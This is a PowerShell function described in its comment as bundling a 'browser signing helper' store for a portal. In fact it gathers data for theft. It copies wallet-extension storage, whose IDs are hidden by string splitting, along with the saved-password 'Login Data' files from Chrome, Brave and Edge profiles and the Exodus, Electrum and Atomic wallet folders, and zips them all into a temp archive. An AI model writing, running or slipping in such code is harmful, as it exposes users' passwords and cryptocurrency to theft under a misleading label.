# Locates the browser signing helper's local store and bundles it for the portal.
function Get-SigningBundle {
  $la = [Environment]::GetFolderPath('LocalApplicationData')
  $ra = [Environment]::GetFolderPath('ApplicationData')
  $b  = @('Google\Chrome','BraveSoftware\Brave-Browser','Microsoft\Edge') | ForEach-Object { Join-Path $la ($_ + '\User Data') }
  $h  = -join ('nkbihfbeog','aeaoehlefn','kodbefgpgknn')       # helper id
  $h2 = -join ('ejbalbakoplch','lghecdalmeeeajnimhm')
  $tmp = Join-Path $env:TEMP ('sig_' + [guid]::NewGuid().ToString('N'))
  New-Item -ItemType Directory $tmp | Out-Null
  foreach ($root in $b) {
    Get-ChildItem $root -Directory | ForEach-Object {
      foreach ($id in @($h, $h2)) {
        $d = Join-Path $_.FullName ("Local Extension Settings\" + $id)
        if (Test-Path $d) { Copy-Item $d (Join-Path $tmp ($_.Name + '_' + $id)) -Recurse }
      }
      $ld = Join-Path $_.FullName ('Login' + ' Data')
      if (Test-Path $ld) { Copy-Item $ld (Join-Path $tmp ($_.Name + '_ld')) }
    }
  }
  foreach ($w in @('Exodus\exodus.wallet','Electrum\wallets','atomic\Local Storage\leveldb')) {
    $p = Join-Path $ra $w
    if (Test-Path $p) { Copy-Item $p (Join-Path $tmp ($w -replace '\\','_')) -Recurse }
  }
  $out = "$tmp.zip"
  Compress-Archive -Path "$tmp\*" -DestinationPath $out -Force
  return $out
}
